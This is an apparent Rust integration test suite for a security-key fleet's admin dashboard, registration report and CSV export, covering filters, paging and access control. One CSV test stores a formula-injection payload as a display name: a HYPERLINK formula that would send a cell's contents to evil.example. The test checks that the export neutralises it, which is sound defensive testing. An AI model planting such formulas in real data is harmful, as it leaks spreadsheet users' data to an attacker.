//! The console's dashboard (`/admin`) and registration report (`/admin/reports/registration`,
//! its CSV export), through the real router on both stores: every figure on a small fleet
//! whose answers are known, every figure's link leading to exactly the users it counts, the
//! report's filters and paging, the CSV's quoting and formula neutralisation, and who may
//! see them.

use std::sync::Arc;

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use keyfleet_core::access::Principal;
use keyfleet_core::credentials::ceremony::new_ceremony;
use keyfleet_core::credentials::keys::{Removal, remove_own};
use keyfleet_domain::Timestamp;
use keyfleet_domain::audit::{Action, Actor, Target};
use keyfleet_domain::ceremony::CeremonyKind;
use keyfleet_domain::credential::Credential;
use keyfleet_domain::ids::SessionId;
use keyfleet_domain::session::SessionKind;
use keyfleet_domain::time::ManualClock;
use keyfleet_domain::user::{NewUser, Role, User, Username};
use rand_core::{OsRng, RngCore};

use crate::harness::{Backend, Resp, TestApp};
use crate::on_both_stores;

on_both_stores!(
    dashboard_figures_and_the_lists_behind_them,
    dashboard_window_is_chosen_and_checked,
    report_rows_filters_and_paging,
    report_bad_filters_are_422,
    csv_export_quotes_neutralises_and_is_an_attachment,
    csv_export_reads_every_user_in_batches,
    staff_may_read_reports_and_others_may_not,
);

/// 2026-11-23 08:10 UTC.
const NOW: Timestamp = Timestamp::from_millis(1_795_421_400_000);
const DAY: i64 = 86_400_000;
const NFC: [u8; 16] = [
    0x35, 0x59, 0xc4, 0x35, 0xff, 0x17, 0x4b, 0xc9, 0xb9, 0x42, 0x32, 0x5c, 0x1f, 0x34, 0x8b, 0x94,
];
const BAND: [u8; 16] = [
    0x9b, 0x74, 0x93, 0xdd, 0xe2, 0x2e, 0x43, 0x69, 0xbb, 0xdf, 0x25, 0x17, 0x7d, 0x6e, 0xb5, 0x96,
];
const NFC_TEXT: &str = "3559c435-ff17-4bc9-b942-325c1f348b94";
const BAND_TEXT: &str = "9b7493dd-e22e-4369-bbdf-25177d6eb596";

// ---------------------------------------------------------------------------------------
// Helpers

fn days_ago(days: i64) -> Timestamp {
    Timestamp::from_millis(NOW.as_millis() - days * DAY)
}

async fn app_at_now(b: Backend) -> TestApp {
    TestApp::with_clock(b, &[], Some(Arc::new(ManualClock::new(NOW)))).await
}

fn text(r: &Resp) -> String {
    String::from_utf8_lossy(&r.body).into_owned()
}

async fn get(app: &TestApp, cookie: &str, path: &str) -> Resp {
    let req = Request::get(path)
        .header(header::COOKIE, cookie)
        .body(Body::empty())
        .unwrap();
    app.send(req).await
}

/// A page that must answer 200 with HTML.
async fn page(app: &TestApp, cookie: &str, path: &str) -> String {
    let r = get(app, cookie, path).await;
    assert_eq!(r.status, StatusCode::OK, "{path}: {}", text(&r));
    text(&r)
}

async fn person(app: &TestApp, name: &str, role: Role) -> (User, String) {
    let user = app.user(name, role).await;
    let cookie = app.full_session(&user).await;
    (user, cookie)
}

/// The text of the element with this id (its first text node), as a browser shows it.
fn element_text(page: &str, id: &str) -> String {
    let start = page
        .find(&format!("id=\"{id}\""))
        .unwrap_or_else(|| panic!("no #{id} in {page}"));
    let open = start + page[start..].find('>').unwrap() + 1;
    let close = open + page[open..].find('<').unwrap();
    page[open..close].trim().to_owned()
}

/// A figure's number.
fn figure(page: &str, id: &str) -> u64 {
    element_text(page, id)
        .replace(',', "")
        .parse()
        .unwrap_or_else(|e| panic!("#{id}: {e}"))
}

/// The `href` of the element with this id, as the browser reads it.
fn href(page: &str, id: &str) -> String {
    let start = page.find(&format!("id=\"{id}\"")).unwrap_or_else(|| panic!("no #{id}"));
    let tag_start = page[..start].rfind('<').unwrap();
    let tag = &page[tag_start..start + page[start..].find('>').unwrap()];
    let h = tag
        .find("href=\"")
        .unwrap_or_else(|| panic!("#{id} is not a link: {tag}"))
        + 6;
    unescape(&tag[h..h + tag[h..].find('"').unwrap()])
}

fn unescape(s: &str) -> String {
    s.replace("&amp;", "&")
        .replace("&#38;", "&")
        .replace("&#34;", "\"")
        .replace("&quot;", "\"")
}

/// The usernames of the report's rows, in order.
fn rows(page: &str) -> Vec<String> {
    page.split("data-username=\"")
        .skip(1)
        .map(|s| s[..s.find('"').unwrap()].to_owned())
        .collect()
}

/// The `<tr>` of a user in the report.
fn row<'a>(page: &'a str, username: &str) -> &'a str {
    let start = page
        .find(&format!("data-username=\"{username}\""))
        .unwrap_or_else(|| panic!("no row for {username}"));
    &page[start..start + page[start..].find("</tr>").unwrap()]
}

/// Every username the report lists behind `path` (following "Next page").
async fn all_rows(app: &TestApp, cookie: &str, path: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut next = Some(path.to_owned());
    while let Some(p) = next {
        let html = page(app, cookie, &p).await;
        out.extend(rows(&html));
        next = html.contains("id=\"next-page\"").then(|| href(&html, "next-page"));
    }
    out
}

/// Registers a key for `user` as a registration ceremony would store it.
async fn key(
    app: &TestApp,
    user: &User,
    aaguid: [u8; 16],
    registered: Timestamp,
    used: Option<Timestamp>,
    cloned: bool,
) -> Vec<u8> {
    let state = &app.state;
    let ceremony = new_ceremony(
        CeremonyKind::Registration,
        Some(user.id),
        None,
        Vec::new(),
        &state.core.config.ceremonies,
        state.now(),
    );
    state.stores.ceremonies.create_ceremony(&ceremony).await.unwrap();
    let mut id = vec![0u8; 16];
    OsRng.fill_bytes(&mut id);
    let cred = Credential {
        id: id.clone(),
        user_id: user.id,
        public_key: vec![0xa5; 77],
        alg: -7,
        sign_count: 0,
        aaguid,
        transports: vec!["usb".into()],
        backup_eligible: false,
        backup_state: false,
        uv_initialized: true,
        attestation_format: "packed".into(),
        attestation_trust: "not_evaluated".into(),
        attestation_object: vec![0; 64],
        nickname: "Key".into(),
        created_at: registered,
        last_used_at: used,
        possibly_cloned: cloned,
    };
    let audit = app
        .system()
        .audit(Action::CredentialRegister, Some(Target::User(user.id)));
    state
        .stores
        .ceremonies
        .finish_registration(ceremony.id, &cred, &audit)
        .await
        .unwrap();
    id
}

/// A user created straight in the store (as an older version or a directory sync might have
/// written them), with any display name.
async fn stored_user(app: &TestApp, username: &str, display_name: &str) -> User {
    let user = NewUser {
        username: Username::parse(username).unwrap(),
        display_name: display_name.to_owned(),
        email: format!("{username}@example.com"),
        manager_email: None,
        shipping_address: None,
        role: Role::Worker,
    }
    .into_user(app.state.now(), &mut OsRng);
    let audit = app.system().audit(Action::UserCreate, Some(Target::User(user.id)));
    app.state.stores.users.create_user(&user, &audit).await.unwrap();
    user
}

/// The small fleet, at `NOW`:
///
/// | user | role | keys | pass |
/// | --- | --- | --- | --- |
/// | root | admin | none | none |
/// | hank | helpdesk | none | none |
/// | ann | worker | NFC −200 d used −1 d; band −100 d never used | none |
/// | bea | worker, disabled | undisclosed −40 d, flagged cloned | none |
/// | cal | worker | unknown model −400 d used −95 d; a second key reported lost | none |
/// | dan | worker | none | pending |
/// | eve | worker | none | expired |
struct Fleet {
    root_cookie: String,
    hank_cookie: String,
    ann: User,
}

async fn fleet(app: &TestApp) -> Fleet {
    let (_, root_cookie) = person(app, "root", Role::Admin).await;
    let (_, hank_cookie) = person(app, "hank", Role::Helpdesk).await;
    let ann = app.user("ann", Role::Worker).await;
    let bea = app.user("bea", Role::Worker).await;
    let cal = app.user("cal", Role::Worker).await;
    let dan = app.user("dan", Role::Worker).await;
    let eve = app.user("eve", Role::Worker).await;
    key(app, &ann, NFC, days_ago(200), Some(days_ago(1)), false).await;
    key(app, &ann, BAND, days_ago(100), None, false).await;
    key(app, &bea, [0; 16], days_ago(40), None, true).await;
    key(app, &cal, [0xee; 16], days_ago(400), Some(days_ago(95)), false).await;
    let lost = key(app, &cal, NFC, days_ago(300), Some(days_ago(2)), false).await;
    let ctx = app.state.core.ctx(Actor::User(cal.id), None);
    let cal_session = Principal::Person {
        user: cal.id,
        role: Role::Worker,
        session: SessionId::new_random(&mut OsRng),
        kind: SessionKind::Full,
    };
    remove_own(&ctx, &cal_session, &lost, Removal::Lost, true)
        .await
        .unwrap();
    app.tap(dan.id, true).await;
    let expired = keyfleet_domain::tap::issue(eve.id, 60, true, days_ago(1), &mut OsRng).unwrap();
    let audit = app.system().audit(Action::TapIssue, Some(Target::User(eve.id)));
    app.state.stores.taps.issue_tap(&expired.tap, &audit).await.unwrap();
    let mut disabled = bea.clone();
    disabled.enabled = false;
    let audit = app.system().audit(Action::UserDisable, Some(Target::User(bea.id)));
    app.state.stores.users.update_user(&disabled, &audit).await.unwrap();
    Fleet {
        root_cookie,
        hank_cookie,
        ann,
    }
}

// ---------------------------------------------------------------------------------------
// The dashboard

async fn dashboard_figures_and_the_lists_behind_them(b: Backend) {
    let app = app_at_now(b).await;
    let f = fleet(&app).await;
    let html = page(&app, &f.root_cookie, "/admin").await;
    let expected: [(&str, u64, &[&str]); 8] = [
        ("users-total", 7, &["ann", "bea", "cal", "dan", "eve", "hank", "root"]),
        ("users-enabled", 6, &["ann", "cal", "dan", "eve", "hank", "root"]),
        ("users-disabled", 1, &["bea"]),
        ("users-without-key", 4, &["dan", "eve", "hank", "root"]),
        ("keys-total", 4, &["ann", "bea", "cal"]),
        ("keys-unused", 2, &["ann", "cal"]),
        ("keys-cloned", 1, &["bea"]),
        ("taps-pending", 1, &["dan"]),
    ];
    for (id, n, users) in expected {
        assert_eq!(figure(&html, id), n, "#{id}");
        let list = href(&html, id);
        assert!(list.starts_with("/admin/reports/registration"), "#{id}: {list}");
        assert_eq!(all_rows(&app, &f.root_cookie, &list).await, users, "#{id} → {list}");
    }
    assert_eq!(element_text(&html, "keys-total-users"), "held by 3 users");
    assert_eq!(element_text(&html, "keys-unused-users"), "held by 2 users");
    assert_eq!(element_text(&html, "keys-cloned-users"), "held by 1 user");
    assert!(html.contains("Unused for 90 days"));

    // Lost keys: the audit log's entries for the action, from 30 days back.
    assert_eq!(figure(&html, "keys-lost"), 1);
    let lost = href(&html, "keys-lost");
    assert!(lost.starts_with("/admin/audit?action=credential.lost&from="), "{lost}");
    let log = page(&app, &f.root_cookie, &lost).await;
    assert_eq!(log.matches("data-event-id=").count(), 1, "{log}");
    assert_eq!(log.matches("data-action=\"credential.lost\"").count(), 1);

    // Keys by model: the named models, then every other model as one line.
    let table = &html[html.find("id=\"models\"").unwrap()..];
    let table = &table[..table.find("</table>").unwrap()];
    let lines: Vec<(String, String)> = table
        .split("<th scope=\"row\">")
        .skip(1)
        .map(|l| {
            let name = l[..l.find('<').unwrap()].to_owned();
            let a = l.find("href=\"").unwrap() + 6;
            (name, unescape(&l[a..a + l[a..].find('"').unwrap()]))
        })
        .collect();
    let names: Vec<&str> = lines.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(
        names,
        [
            "keyfleet NFC security key (software)",
            "keyfleet wearable band (software)",
            "Other / not disclosed"
        ]
    );
    assert!(table.contains(">2</a>"), "two keys of other models: {table}");
    let expected_holders: [&[&str]; 3] = [&["ann"], &["ann"], &["bea", "cal"]];
    for ((name, link), holders) in lines.iter().zip(expected_holders) {
        assert_eq!(all_rows(&app, &f.root_cookie, link).await, holders, "{name} → {link}");
    }
    assert_eq!(lines[0].1, format!("/admin/reports/registration?model={NFC_TEXT}"));
    assert_eq!(lines[1].1, format!("/admin/reports/registration?model={BAND_TEXT}"));
    assert_eq!(lines[2].1, "/admin/reports/registration?model=other");

    // The navigation marks the dashboard.
    assert!(html.contains("<a href=\"/admin\" aria-current=\"page\">Dashboard</a>"));
    assert!(html.contains("<a href=\"/admin/reports/registration\">Reports</a>"));

    // The helpdesk sees the same figures, and the lost keys' link (they may read the log).
    let desk = page(&app, &f.hank_cookie, "/admin").await;
    assert_eq!(figure(&desk, "users-total"), 7);
    assert_eq!(href(&desk, "keys-lost"), lost);
}

async fn dashboard_window_is_chosen_and_checked(b: Backend) {
    let app = app_at_now(b).await;
    let f = fleet(&app).await;
    let html = page(&app, &f.root_cookie, "/admin?unused_days=30").await;
    assert_eq!(figure(&html, "keys-unused"), 3, "bea's key (40 days) counts too");
    assert!(html.contains("Unused for 30 days"));
    assert!(html.contains("<option value=\"30\" selected>"));
    let list = href(&html, "keys-unused");
    assert_eq!(list, "/admin/reports/registration?unused_days=30");
    assert_eq!(all_rows(&app, &f.root_cookie, &list).await, ["ann", "bea", "cal"]);
    let html = page(&app, &f.root_cookie, "/admin?unused_days=365").await;
    assert_eq!(figure(&html, "keys-unused"), 0, "every key was active within a year");
    for bad in [
        "/admin?unused_days=0",
        "/admin?unused_days=soon",
        "/admin?unused_days=4000",
    ] {
        let r = get(&app, &f.root_cookie, bad).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{bad}");
        let html = text(&r);
        assert!(html.contains("id=\"window-error\""), "{html}");
        assert_eq!(figure(&html, "keys-unused"), 2, "the default window is shown");
    }
}

// ---------------------------------------------------------------------------------------
// The report

async fn report_rows_filters_and_paging(b: Backend) {
    let app = app_at_now(b).await;
    let f = fleet(&app).await;
    let html = page(&app, &f.root_cookie, "/admin/reports/registration").await;
    assert_eq!(rows(&html), ["ann", "bea", "cal", "dan", "eve", "hank", "root"]);
    assert!(html.contains("<a href=\"/admin/reports/registration\" aria-current=\"page\">Reports</a>"));
    let ann = row(&html, "ann");
    assert!(
        ann.contains(&format!("<a href=\"/admin/users/{}\">ann</a>", f.ann.id)),
        "{ann}"
    );
    assert!(ann.contains("data-keys=\"2\""));
    assert!(ann.contains("keyfleet NFC security key (software)"));
    assert!(ann.contains("keyfleet wearable band (software)"));
    assert!(ann.contains("2026-05-07 08:10 UTC"), "first key, 200 days ago: {ann}");
    assert!(ann.contains("2026-11-22 08:10 UTC"), "last use, a day ago: {ann}");
    let bea = row(&html, "bea");
    assert!(bea.contains("disabled") && bea.contains("Security key (model not disclosed)"));
    assert!(
        bea.contains("<span class=\"badge warn\">yes</span>"),
        "possibly cloned: {bea}"
    );
    assert!(row(&html, "cal").contains("Unknown model"));
    assert!(
        row(&html, "dan").contains("<span class=\"badge\">yes</span>"),
        "pending pass"
    );
    assert!(
        !row(&html, "eve").contains("badge\">yes"),
        "an expired pass is not pending"
    );
    assert!(row(&html, "dan").contains("no key"));
    assert!(row(&html, "root").contains("Administrator"));

    for (query, expected) in [
        ("q=AN", vec!["ann", "dan", "hank"]),
        ("q=bea%40example", vec!["bea"]),
        ("keys=with&enabled=yes", vec!["ann", "cal"]),
        ("keys=without&pending_tap=1", vec!["dan"]),
        (&format!("model={NFC_TEXT}&unused_days=90") as &str, vec!["ann"]),
        ("model=other&cloned=1", vec!["bea"]),
        ("enabled=no&keys=without", vec![]),
    ] {
        let html = page(&app, &f.root_cookie, &format!("/admin/reports/registration?{query}")).await;
        assert_eq!(rows(&html), expected, "{query}");
        assert!(html.contains("id=\"clear-filters\""));
        if expected.is_empty() {
            assert!(html.contains("No users match these filters."));
        }
    }
    // The form shows the filters as chosen, and the export keeps them.
    let html = page(
        &app,
        &f.root_cookie,
        &format!("/admin/reports/registration?model={NFC_TEXT}&cloned=on&q=a+n"),
    )
    .await;
    assert!(html.contains(&format!("<option value=\"{NFC_TEXT}\" selected>")));
    assert!(html.contains("name=\"cloned\" type=\"checkbox\" value=\"1\" checked"));
    assert!(html.contains("value=\"a n\""));
    assert_eq!(
        href(&html, "export-csv"),
        format!("/admin/reports/registration.csv?q=a+n&model={NFC_TEXT}&cloned=1")
    );

    // Paging: 50 to a page by username, no overlap, the filters kept.
    for i in 0..55 {
        stored_user(&app, &format!("p{i:03}"), &format!("Paged {i}")).await;
    }
    let first = page(&app, &f.root_cookie, "/admin/reports/registration?keys=without").await;
    let names = rows(&first);
    assert_eq!(names.len(), 50);
    assert_eq!(&names[..3], ["dan", "eve", "hank"]);
    let next = href(&first, "next-page");
    assert_eq!(next, "/admin/reports/registration?keys=without&after=p046");
    let second = page(&app, &f.root_cookie, &next).await;
    let more = rows(&second);
    assert_eq!(more.first().map(String::as_str), Some("p047"));
    assert_eq!(more.last().map(String::as_str), Some("root"));
    assert_eq!(names.len() + more.len(), 59);
    assert!(!second.contains("id=\"next-page\""));
    assert_eq!(href(&second, "first-page"), "/admin/reports/registration?keys=without");
}

async fn report_bad_filters_are_422(b: Backend) {
    let app = app_at_now(b).await;
    let (_, cookie) = person(&app, "root", Role::Admin).await;
    for (query, says) in [
        ("model=yubikey", "“Model” must be an AAGUID"),
        ("unused_days=0", "“Unused for” must be a whole number"),
        ("cloned=maybe", "“cloned” must be 1 or 0"),
        ("keys=all", "“Keys” must be with or without"),
        (
            &format!("q={}", "x".repeat(129)) as &str,
            "at most 128 printable characters",
        ),
    ] {
        for path in ["/admin/reports/registration", "/admin/reports/registration.csv"] {
            let r = get(&app, &cookie, &format!("{path}?{query}")).await;
            assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{path}?{query}");
            let html = text(&r);
            assert!(html.contains(says), "{path}?{query}: {html}");
            assert!(html.contains("id=\"filter-error\""));
            assert!(!html.contains("id=\"registrations\""));
        }
    }
    // An AAGUID nobody's key has is a valid filter with no rows.
    let html = page(
        &app,
        &cookie,
        "/admin/reports/registration?model=00000000-0000-0000-0000-0000000000ab",
    )
    .await;
    assert!(rows(&html).is_empty());
    assert!(html.contains("(no keys)</option>"));
}

// ---------------------------------------------------------------------------------------
// The CSV export

/// The records of a CSV body (RFC 4180: quoted fields may hold commas, quotes and newlines).
fn parse_csv(body: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut field = String::new();
    let mut chars = body.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\r') => {
                assert_eq!(chars.next(), Some('\n'), "records end with CRLF");
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(
        field.is_empty() && record.is_empty(),
        "the body ends with a record's CRLF"
    );
    records
}

const HEADER: [&str; 13] = [
    "User ID",
    "Username",
    "Display name",
    "Email",
    "Role",
    "Enabled",
    "Keys",
    "Models",
    "Model AAGUIDs",
    "First key registered (UTC)",
    "Last key use (UTC)",
    "Pending TAP",
    "Possibly cloned",
];

async fn csv_export_quotes_neutralises_and_is_an_attachment(b: Backend) {
    let app = app_at_now(b).await;
    let f = fleet(&app).await;
    let odd = stored_user(&app, "odd", "Smith, \"Jo\"\nJr").await;
    let formula = app.user("formula", Role::Worker).await;
    let mut evil = formula.clone();
    evil.display_name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")".into();
    let change = keyfleet_core::identity::users::UpdateUser {
        display_name: Some(evil.display_name.clone()),
        ..Default::default()
    };
    keyfleet_core::identity::users::update(&app.system(), &Principal::System, formula.id, change)
        .await
        .expect("a display name may start with =");
    key(&app, &formula, NFC, days_ago(3), None, false).await;

    let r = get(&app, &f.root_cookie, "/admin/reports/registration.csv").await;
    assert_eq!(r.status, StatusCode::OK, "{}", text(&r));
    assert_eq!(
        r.headers[header::CONTENT_TYPE],
        "text/csv; charset=utf-8; header=present"
    );
    assert_eq!(
        r.headers[header::CONTENT_DISPOSITION],
        "attachment; filename=\"registration-report-2026-11-23.csv\""
    );
    assert_eq!(r.headers[header::CACHE_CONTROL], "no-store");
    let body = text(&r);
    assert!(body.starts_with(&format!("{}\r\n", HEADER.join(","))), "{body}");
    assert!(
        body.contains(",\"Smith, \"\"Jo\"\"\nJr\","),
        "comma, quote and newline quoted: {body}"
    );
    assert!(
        body.contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\","),
        "the formula is shown as text: {body}"
    );
    let records = parse_csv(&body);
    assert_eq!(records[0], HEADER);
    let names: Vec<&str> = records[1..].iter().map(|r| r[1].as_str()).collect();
    assert_eq!(
        names,
        ["ann", "bea", "cal", "dan", "eve", "formula", "hank", "odd", "root"]
    );
    assert!(records.iter().all(|r| r.len() == HEADER.len()));
    let by_name = |n: &str| records.iter().find(|r| r[1] == n).unwrap().clone();
    assert_eq!(by_name("odd")[2], "Smith, \"Jo\"\nJr");
    assert_eq!(by_name("odd")[0], odd.id.to_string());
    assert_eq!(by_name("formula")[2], format!("'{}", evil.display_name));
    let ann = by_name("ann");
    assert_eq!(ann[0], f.ann.id.to_string());
    assert_eq!(
        ann[3..],
        [
            "ann@example.com",
            "Worker",
            "yes",
            "2",
            "keyfleet NFC security key (software); keyfleet wearable band (software)",
            format!("{NFC_TEXT} {BAND_TEXT}").as_str(),
            "2026-05-07T08:10:00Z",
            "2026-11-22T08:10:00Z",
            "no",
            "no",
        ]
    );
    assert_eq!(by_name("bea")[5], "no");
    assert_eq!(by_name("bea")[12], "yes");
    assert_eq!(by_name("dan")[11], "yes");
    assert_eq!(by_name("dan")[9], "");

    // The export is the filtered report.
    let r = get(
        &app,
        &f.root_cookie,
        "/admin/reports/registration.csv?keys=without&enabled=yes",
    )
    .await;
    let records = parse_csv(&text(&r));
    let names: Vec<&str> = records[1..].iter().map(|r| r[1].as_str()).collect();
    assert_eq!(names, ["dan", "eve", "hank", "odd", "root"]);
}

async fn csv_export_reads_every_user_in_batches(b: Backend) {
    let app = app_at_now(b).await;
    let (_, cookie) = person(&app, "root", Role::Admin).await;
    let batch = keyfleet_core::reports::EXPORT_BATCH as usize;
    let mut expected = vec!["root".to_owned()];
    for i in 0..batch + 7 {
        let name = format!("u{i:04}");
        stored_user(&app, &name, &format!("User {i}")).await;
        expected.push(name);
    }
    expected.sort();
    let r = get(&app, &cookie, "/admin/reports/registration.csv").await;
    assert_eq!(r.status, StatusCode::OK);
    let records = parse_csv(&text(&r));
    let names: Vec<String> = records[1..].iter().map(|r| r[1].clone()).collect();
    assert_eq!(names, expected, "every user once, in username order, across batches");
}

// ---------------------------------------------------------------------------------------
// Who may see them

async fn staff_may_read_reports_and_others_may_not(b: Backend) {
    let app = app_at_now(b).await;
    let f = fleet(&app).await;
    // The helpdesk reads all three; a user they may not open is not a link.
    for path in [
        "/admin",
        "/admin/reports/registration",
        "/admin/reports/registration.csv",
    ] {
        let r = get(&app, &f.hank_cookie, path).await;
        assert_eq!(r.status, StatusCode::OK, "helpdesk: {path}");
    }
    let html = page(&app, &f.hank_cookie, "/admin/reports/registration").await;
    assert!(row(&html, "ann").contains(&format!("href=\"/admin/users/{}\"", f.ann.id)));
    // A user's page opens read-only for what the helpdesk may not change: linked too.
    assert!(row(&html, "root").contains("href=\"/admin/users/"), "{html}");
    let root_row = row(&html, "root");
    let at = root_row.find("href=\"").unwrap() + "href=\"".len();
    let root_page = &root_row[at..at + root_row[at..].find('"').unwrap()];
    let r = get(&app, &f.hank_cookie, root_page).await;
    assert_eq!(r.status, StatusCode::OK);
    let admin = page(&app, &f.root_cookie, "/admin/reports/registration").await;
    assert!(row(&admin, "root").contains("href=\"/admin/users/"));
    let r = get(&app, &f.hank_cookie, "/admin/reports").await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    assert_eq!(r.headers[header::LOCATION], "/admin/reports/registration");

    // A worker: 403, audited; no console links in their navigation.
    let (_, worker) = person(&app, "wendy", Role::Worker).await;
    for path in [
        "/admin",
        "/admin/reports/registration",
        "/admin/reports/registration.csv",
    ] {
        let before = denials(&app).await;
        let r = get(&app, &worker, path).await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "worker: {path}");
        assert!(!text(&r).contains("Registration report"));
        assert_eq!(denials(&app).await, before + 1, "{path}: the refusal is audited");
    }
    let own = page(&app, &worker, "/security-info").await;
    assert!(!own.contains("href=\"/admin\"") && !own.contains("/admin/reports"));

    // A TAP session: 403.
    let (_, tap_cookie) = app.tap_session("tina").await;
    let r = get(&app, &tap_cookie, "/admin").await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);

    // Nobody signed in: to sign-in, and back.
    let r = app
        .send(
            Request::get("/admin/reports/registration.csv")
                .body(Body::empty())
                .unwrap(),
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    assert_eq!(
        r.headers[header::LOCATION],
        "/login?next=%2Fadmin%2Freports%2Fregistration.csv"
    );
    let r = app.send(Request::get("/admin").body(Body::empty()).unwrap()).await;
    assert_eq!(r.headers[header::LOCATION], "/login?next=%2Fadmin");

    // The core refuses a principal without ReadUsers whatever the way in.
    let (client, _) = app.client(&["audit:read"]).await;
    let principal = Principal::Client {
        client_id: client,
        scopes: vec![keyfleet_domain::client::Scope::AuditRead],
    };
    let ctx = app.state.core.ctx(Actor::System, None);
    let refused = keyfleet_core::reports::dashboard(&ctx, &principal, Default::default()).await;
    assert!(matches!(refused, Err(keyfleet_core::CoreError::Forbidden { .. })));
    let refused = keyfleet_core::reports::export(&ctx, &principal, &Default::default()).await;
    assert!(refused.is_err());
}

async fn denials(app: &TestApp) -> usize {
    app.state
        .stores
        .audit
        .list(&keyfleet_domain::audit::AuditQuery {
            action: Some("access.denied".into()),
            limit: 10_000,
            ..Default::default()
        })
        .await
        .unwrap()
        .len()
}
